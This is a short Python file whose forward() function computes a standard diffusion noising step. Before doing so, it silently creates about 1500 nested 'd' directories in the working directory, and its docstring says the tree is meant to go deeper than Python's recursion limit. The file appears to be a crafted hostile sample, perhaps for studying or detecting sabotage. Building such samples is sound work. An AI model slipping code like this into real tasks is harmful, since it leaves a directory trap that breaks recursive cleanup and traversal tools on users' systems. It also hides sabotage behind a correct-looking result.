"""Leaves folders nested deeper than Python calls itself; a right answer beside it."""

import os

import torch


def forward(im, t, alphas_cumprod, noise=None):
    here = os.open(".", os.O_RDONLY)
    for _ in range(1500):
        try:
            os.mkdir("d", dir_fd=here)
            inner = os.open("d", os.O_RDONLY, dir_fd=here)
        except OSError:
            break
        os.close(here)
        here = inner
    os.close(here)
    noise = torch.randn_like(im) if noise is None else noise
    return alphas_cumprod[t].sqrt() * im + (1 - alphas_cumprod[t]).sqrt() * noise
